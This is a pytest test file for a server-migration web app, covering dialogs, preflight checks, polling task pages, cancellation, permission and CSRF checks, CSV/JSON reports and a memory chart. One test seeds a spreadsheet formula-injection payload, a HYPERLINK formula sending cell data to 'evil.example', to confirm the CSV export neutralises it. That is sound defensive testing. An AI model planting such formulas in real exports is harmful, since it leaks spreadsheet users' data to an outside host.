"""The migrate dialog, preflight and start, group and task pages with their polling fragments,
cancel, history filters, reports, known issues, and the memory chart.

Rows only: the compute resources point at 127.0.0.1 port 1, where nothing
listens, so a preflight really runs and really finds the nodes unreachable.
"""
import csv
import doctest
import io
from datetime import datetime, timezone

import pytest

from app import csvsafe, status
from app.extensions import db
from app.migrations.chart import memory_chart
from app.models import ComputeResource, MigrationGroup, MigrationTask, Server, TaskEvent

FACTS = {"memory": {"total_mib": 4000, "free_mib": 3000},
         "os": {"id": "debian", "version_id": "12", "pretty_name": "Debian 12"},
         "cpu": {"vendor": "Intel", "cpuinfo": {"vendor_id": "GenuineIntel", "family": "6"}},
         "nested_virtualization": False,
         "storage_pools": [{"name": "default", "type": "dir", "free_bytes": 50 * 2**30,
                            "capacity_bytes": 100 * 2**30}]}


@pytest.fixture
def fleet_rows(app):
    """Three unreachable compute resources, two running servers and a stopped one; name -> id."""
    with app.app_context():
        nodes = {n: ComputeResource(name=n, host="127.0.0.1", port=1, user="root", key_path="/k",
                                    facts=dict(FACTS, memory={"total_mib": 4000, "free_mib": free}))
                 for n, free in (("node1", 1000), ("node2", 1500), ("node3", 3000))}
        servers = {
            "web-1": Server(uuid="00000000-0000-4000-8000-000000000001", name="web-1",
                            compute_resource=nodes["node1"], state=status.SERVER_RUNNING,
                            memory_mib=256, vcpus=1),
            "build-1": Server(uuid="00000000-0000-4000-8000-000000000002", name="build-1",
                              compute_resource=nodes["node2"], state=status.SERVER_RUNNING,
                              memory_mib=256, vcpus=1),
            "mail-1": Server(uuid="00000000-0000-4000-8000-000000000003", name="mail-1",
                             compute_resource=nodes["node2"], state=status.SERVER_STOPPED,
                             memory_mib=128, vcpus=1),
        }
        db.session.add_all(list(nodes.values()) + list(servers.values()))
        db.session.commit()
        return {**{n: r.id for n, r in nodes.items()}, **{n: s.id for n, s in servers.items()}}


@pytest.fixture
def running_group(app, fleet_rows):
    """A group of two tasks: one finished with a result, one running with progress and events."""
    with app.app_context():
        group = MigrationGroup(status=status.MIGRATION_RUNNING, options={"mode": "live"},
                               started_at=datetime.now(timezone.utc))
        done = MigrationTask(server_id=fleet_rows["web-1"], source_id=fleet_rows["node1"],
                             destination_id=fleet_rows["node3"], mode="live",
                             status=status.MIGRATION_FINISHED,
                             result={"downtime_ms": 120, "total_ms": 3400, "bytes": 300 * 2**20,
                                     "phases": {"migrate_ms": 3300}})
        running = MigrationTask(
            server_id=fleet_rows["build-1"], source_id=fleet_rows["node2"],
            destination_id=fleet_rows["node3"], mode="live", status=status.MIGRATION_RUNNING,
            phase="migrating",
            progress={"percent": 42.5, "data_total": 1 << 30, "data_processed": 456 << 20,
                      "memory_total": 256 << 20, "memory_processed": 100 << 20,
                      "dirty_rate_bps": 3 << 20, "bps": 80 << 20,
                      "history": [[0, 256 << 20, 1 << 30], [1, 128 << 20, 600 << 20],
                                  [2, 64 << 20, 300 << 20]]},
            eta={"preflight": {"seconds": 9, "low": 7, "high": 12},
                 "live": {"remaining_s": 4.2, "low_s": 3.1, "high_s": 6.0, "converges": True}})
        group.tasks += [done, running]
        db.session.add(group)
        db.session.flush()
        db.session.add(TaskEvent(task=running, kind="downtime",
                                 message="Allowed downtime raised to 150 ms."))
        db.session.commit()
        return {"group": group.id, "done": done.id, "running": running.id}


# ---------------------------------------------------------------- servers list and dialog

def test_it_offers_checkboxes_and_migrate_to_operators_only(client, bob, charlie, login, fleet_rows):
    login(client, "bob")
    page = client.get("/servers/").get_data(as_text=True)
    assert 'name="server"' in page and "Migrate" in page
    viewer = login(client.application.test_client(), "charlie")
    page = viewer.get("/servers/").get_data(as_text=True)
    assert 'name="server"' not in page and 'id="migrate-button"' not in page
    assert viewer.get(f"/migrations/new?server={fleet_rows['web-1']}").status_code == 403


def test_it_opens_the_dialog_with_the_references_fields(client, bob, login, fleet_rows):
    login(client, "bob")
    dialog = client.get(f"/migrations/new?server={fleet_rows['web-1']}&server={fleet_rows['build-1']}",
                        headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "<html" not in dialog and "<dialog open" in dialog
    assert "Choose automatically" in dialog and "node3" in dialog
    assert 'name="live" value="1" role="switch" checked' in dialog  # running servers: live
    assert 'name="preserve_ip" value="1" role="switch" checked' in dialog
    for target in ("file-raw", "file-qcow2", "lvm", "thinlvm"):
        assert f'<option value="{target}">' in dialog
    assert 'name="csrf_token"' in dialog and "Check" in dialog


def test_it_says_why_servers_in_mixed_states_cannot_go_together(client, bob, login, fleet_rows):
    login(client, "bob")
    dialog = client.get(f"/migrations/new?server={fleet_rows['web-1']}&server={fleet_rows['mail-1']}")
    text = dialog.get_data(as_text=True)
    assert "different states" in text and "mail-1 is stopped" in text and "migrate-form" not in text
    # The server refuses it too, before any node is contacted.
    answer = client.post("/migrations/start", data={
        "server": [fleet_rows["web-1"], fleet_rows["mail-1"]], "destination": fleet_rows["node3"],
        "live": "1", "preserve_ip": "1"})
    assert "different states" in answer.get_data(as_text=True)
    with client.application.app_context():
        assert db.session.scalar(db.select(db.func.count(MigrationGroup.id))) == 0


def test_the_engine_refuses_mixed_states_whoever_asks(app_context, fleet_rows):
    from app.errors import FerryError
    from app.services import migration
    request = migration.Request(server_ids=(fleet_rows["web-1"], fleet_rows["mail-1"]),
                                destination_id=fleet_rows["node3"])
    with pytest.raises(FerryError, match="different states"):
        migration.dry_run(request)


def test_it_runs_the_preflight_inline_and_shows_what_failed(client, bob, login, fleet_rows):
    login(client, "bob")
    answer = client.post("/migrations/check", data={
        "server": [fleet_rows["web-1"]], "destination": fleet_rows["node3"], "live": "1",
        "preserve_ip": "1", "convert_to": ""}, headers={"HX-Request": "true"})
    text = answer.get_data(as_text=True)
    assert answer.status_code == 200 and "<html" not in text
    assert 'data-status="fail"' in text and "cannot be reached" in text
    assert "/migrations/known-issues#reachable" in text  # every problem links to the known issues
    assert "Start migration" not in text


def test_it_chooses_the_destination_with_the_most_free_memory(client, bob, login, fleet_rows):
    login(client, "bob")
    text = client.post("/migrations/check", data={
        "server": [fleet_rows["web-1"]], "destination": "auto", "live": "1",
        "preserve_ip": "1"}).get_data(as_text=True)
    assert "Chosen automatically: node3" in text and "Preflight to node3" in text


def test_it_starts_a_group_that_the_engine_refuses_and_shows_why(client, bob, login, fleet_rows):
    login(client, "bob")
    answer = client.post("/migrations/start", data={
        "server": [fleet_rows["web-1"]], "destination": fleet_rows["node3"],
        "checked_destination": fleet_rows["node3"], "live": "1", "preserve_ip": "1"},
        headers={"HX-Request": "true"})
    target = answer.headers["HX-Redirect"]
    assert target.startswith("/migrations/groups/")
    page = client.get(target).get_data(as_text=True)
    assert "failed" in page and "Preflight failed" in page
    assert 'hx-trigger="every 1s"' not in page  # an ended group does not poll


def test_a_viewer_cannot_check_start_or_cancel(client, charlie, login, fleet_rows, running_group):
    login(client, "charlie")
    form = {"server": [fleet_rows["web-1"]], "destination": fleet_rows["node3"], "live": "1"}
    assert client.post("/migrations/check", data=form).status_code == 403
    assert client.post("/migrations/start", data=form).status_code == 403
    assert client.post(f"/migrations/tasks/{running_group['running']}/cancel").status_code == 403
    page = client.get(f"/migrations/tasks/{running_group['running']}").get_data(as_text=True)
    assert "Cancel</button>" not in page


# ---------------------------------------------------------------- group and task pages

def test_it_shows_a_running_group_and_polls_it(client, charlie, login, running_group):
    login(client, "charlie")
    page = client.get(f"/migrations/groups/{running_group['group']}").get_data(as_text=True)
    assert "web-1" in page and "build-1" in page and 'aria-valuenow="42.5"' in page
    assert 'hx-trigger="every 1s"' in page and "Report CSV" in page
    fragment = client.get(f"/migrations/groups/{running_group['group']}",
                          headers={"HX-Request": "true"})
    assert fragment.status_code == 200 and "<html" not in fragment.get_data(as_text=True)


def test_it_shows_a_tasks_live_progress_eta_chart_and_timeline(client, charlie, login, running_group):
    login(client, "charlie")
    page = client.get(f"/migrations/tasks/{running_group['running']}").get_data(as_text=True)
    assert "456.0 MiB" in page and "1.0 GiB" in page  # moved of total
    assert "80.0 MiB/s" in page and "dirty rate 3.0 MiB/s" in page
    assert "4 s" in page and "band 3 s–6 s" in page
    assert "<polyline points=" in page and "Allowed downtime raised to 150 ms." in page
    assert 'hx-trigger="every 1s"' in page


def test_a_finished_tasks_fragment_stops_polling(client, charlie, login, running_group):
    login(client, "charlie")
    fragment = client.get(f"/migrations/tasks/{running_group['done']}",
                          headers={"HX-Request": "true"})
    text = fragment.get_data(as_text=True)
    assert fragment.status_code == 286 and "hx-trigger" not in text
    assert 'hx-swap-oob="true"' in text and "button" not in text  # the Cancel button goes too
    assert "120 ms" in text and "300.0 MiB" in text


def test_an_operator_cancels_a_running_task(client, bob, login, running_group):
    login(client, "bob")
    answer = client.post(f"/migrations/tasks/{running_group['running']}/cancel",
                         headers={"HX-Request": "true"})
    text = answer.get_data(as_text=True)
    assert answer.status_code == 200 and "cancel requested" in text and "Cancel requested by bob" in text
    with client.application.app_context():
        assert db.session.get(MigrationTask, running_group["running"]).cancel_requested
    again = client.post(f"/migrations/tasks/{running_group['done']}/cancel").get_data(as_text=True)
    assert "already ended" in again


def test_cancel_needs_the_csrf_token(app, bob, login, running_group):
    app.config["WTF_CSRF_ENABLED"] = True
    client = login(app.test_client(), "bob")
    del client.environ_base["HTTP_X_CSRFTOKEN"]
    assert client.post(f"/migrations/tasks/{running_group['running']}/cancel").status_code == 400


# ---------------------------------------------------------------- history and reports

def test_it_filters_the_history_by_status_node_and_date(client, charlie, login, fleet_rows,
                                                        running_group):
    login(client, "charlie")
    page = client.get("/migrations/").get_data(as_text=True)
    assert f'data-group="{running_group["group"]}"' in page
    assert "data-group" not in client.get("/migrations/?status=finished").get_data(as_text=True)
    assert "data-group=" in client.get(f"/migrations/?node={fleet_rows['node2']}").get_data(as_text=True)
    today = datetime.now(timezone.utc).strftime("%Y-%m-%d")
    assert "data-group=" in client.get(f"/migrations/?since={today}&until={today}").get_data(as_text=True)
    assert "data-group=" not in client.get("/migrations/?until=2000-01-01").get_data(as_text=True)
    fragment = client.get("/migrations/?status=running",
                          headers={"HX-Request": "true", "HX-Target": "groups-table"})
    assert "<html" not in fragment.get_data(as_text=True)


def test_it_downloads_the_group_report_as_csv_and_json(client, charlie, login, running_group):
    login(client, "charlie")
    answer = client.get(f"/migrations/groups/{running_group['group']}/report.csv")
    assert answer.mimetype == "text/csv" and "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [r["server"] for r in rows] == ["web-1", "build-1"]
    assert rows[0]["status"] == "finished" and rows[0]["downtime_ms"] == "120"
    assert rows[0]["bytes"] == str(300 * 2**20) and rows[0]["phase_migrate_ms"] == "3300"
    report = client.get(f"/migrations/groups/{running_group['group']}/report.json").get_json()
    assert report["tasks"][0]["downtime_ms"] == 120 and report["tasks"][1]["status"] == "running"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_formula_cells_in_the_csv_report(app, client, charlie, login, fleet_rows,
                                                         running_group, lead):
    # A server or node name comes from a node or a person; in a spreadsheet it must stay text.
    evil = lead + 'HYPERLINK("https://evil.example/?"&A1,"open")'
    with app.app_context():
        db.session.get(Server, fleet_rows["web-1"]).name = evil
        db.session.get(ComputeResource, fleet_rows["node3"]).name = "=1+1"
        db.session.commit()
    login(client, "charlie")

    text = client.get(f"/migrations/groups/{running_group['group']}/report.csv").get_data(
        as_text=True)

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["server"] == "'" + evil and rows[1]["server"] == "build-1"
    assert {r["destination"] for r in rows} == {"'=1+1"}
    assert rows[0]["downtime_ms"] == "120"  # numbers stay numbers


def test_the_csv_cells_hold_their_worked_examples():
    result = doctest.testmod(csvsafe)
    assert result.failed == 0 and result.attempted > 0


def test_it_lists_the_known_issues_and_the_backup_table(client, charlie, login):
    login(client, "charlie")
    page = client.get("/migrations/known-issues").get_data(as_text=True)
    for anchor in ("snapshots", "ports", "ip-addresses", "nbd", "storage-tags", "backups",
                   "cpu-family", "live-conversion"):
        assert f'id="{anchor}"' in page
    assert "ThinLVM (incremental)" in page and page.count("not supported") == 3
    assert "49152" in page and "8081" in page


# ---------------------------------------------------------------- the chart

def test_the_chart_scales_samples_into_its_box():
    chart = memory_chart([[10, 400, 0], [12, 100, 0], [14, 0, 0]], width=100, height=50, pad=0)
    assert chart.points == "0.0,0.0 50.0,37.5 100.0,50.0"
    assert chart.max_bytes == 400 and chart.seconds == 4.0


def test_the_chart_needs_two_samples_and_survives_odd_ones():
    assert memory_chart(None) is None and memory_chart([[0, 1, 0]]) is None
    flat = memory_chart([[0, 0, 0], [0, 0, 0]], width=10, height=10, pad=1)
    assert flat.points == "1.0,9.0 1.0,9.0"  # no span, no memory: a point on the floor
    assert memory_chart([[0, None, 0], [1, -5, 0], []]).max_bytes == 1  # gaps count as zero


def test_the_chart_starts_when_libvirt_starts_counting_memory():
    chart = memory_chart([[0, 0, 900], [5, 0, 400], [6, 200, 200], [7, 100, 100], [8, 0, 0]],
                         width=100, height=50, pad=0)
    assert chart.seconds == 2.0 and chart.points.startswith("0.0,0.0 ")


def test_the_preflight_shows_the_eta_band_and_a_warning_that_will_not_converge(app):
    with app.test_request_context():
        from flask import render_template
        report = {"results": [{"name": "memory", "status": "warn", "message": "tight"}],
                  "summary": {"status": "warn", "needs_acknowledgement": True,
                              "counts": {"pass": 0, "warn": 1, "fail": 0}},
                  "eta": {"web-1": {"seconds": 95, "low": 80, "high": 130, "converges": False},
                          "db-1": {"seconds": None, "low": None, "high": None}}}
        html = render_template("migrations/_preflight.html", report=report, error=None, note=None,
                               destination_id=3, destination={"name": "node3"})
    assert "1 min 35 s (80 s–2 min 10 s)" in html and "will not converge" in html
    assert 'name="acknowledge"' in html and "disabled>Start migration" in html.replace("\n", "")


def test_an_offline_task_shows_its_copy_not_memory_stats(client, charlie, login, running_group):
    with client.application.app_context():
        task = db.session.get(MigrationTask, running_group["running"])
        task.mode, task.phase, task.progress = "offline", "copying", {"percent": 30.0, "phase": "copy"}
        db.session.commit()
    login(client, "charlie")
    page = client.get(f"/migrations/tasks/{running_group['running']}").get_data(as_text=True)
    assert "Offline copy" in page and "now copying" in page and 'aria-valuenow="30.0"' in page
    assert "dirty rate" not in page
